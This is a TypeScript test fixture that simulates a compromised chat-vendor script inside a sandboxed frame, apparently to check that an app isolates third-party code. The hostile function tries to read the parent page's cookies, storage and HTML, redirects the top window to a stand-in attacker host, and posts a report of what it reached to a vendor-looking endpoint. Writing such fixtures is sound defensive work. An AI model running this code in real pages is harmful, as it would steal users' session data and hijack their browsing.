/** Tries to access the app from the page of the chat, where it runs in place of the vendor's script. */
function hostile(): void {
  const attempts: Record<string, () => unknown> = {
    "the app's address": () => window.parent.location.href,
    "the app's storage": () => window.parent.localStorage.getItem('currentStay'),
    "the app's cookies": () => window.parent.document.cookie,
    "the app's page": () => window.parent.document.body.innerHTML,
    'its own storage': () => window.localStorage.length,
    'its own cookies': () => document.cookie,
    'a database': () => indexedDB.open('any'),
    'the caches': () => caches.keys(),
    'the worker': () => navigator.serviceWorker.controller,
    'the page of a frame that it makes': () => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      return frame.contentDocument?.body.innerHTML ?? frame.contentWindow?.document;
    },
    'the window of the app': () => {
      if (window.top) window.top.location.href = 'https://evil.example.test/';
    },
  };
  const reached = Object.entries(attempts).flatMap(([name, attempt]) => {
    try {
      attempt();
      return [name];
    } catch {
      return [];
    }
  });
  const seen = { reached, origin: window.origin, referrer: document.referrer };
  void fetch('https://api-iam.eu.intercom.io/seen', { method: 'POST', body: JSON.stringify(seen) });
  // The app must ignore all of these messages.
  for (const message of ['line', 'here', { type: 'shown' }, { type: 'unread', count: 99 }])
    window.parent.postMessage(message, '*');
}

/** The source of that script, which simulates a compromised vendor. */
export const HOSTILE_SCRIPT = `(${hostile.toString()})()`;

/** The report of the hostile script; undefined until it has sent one. */
export function whatItReached(sent: readonly string[]): unknown {
  const seen = sent.find((each) => each.includes('/seen'));
  return seen === undefined ? undefined : JSON.parse(seen.slice(seen.indexOf('{"reached"')));
}
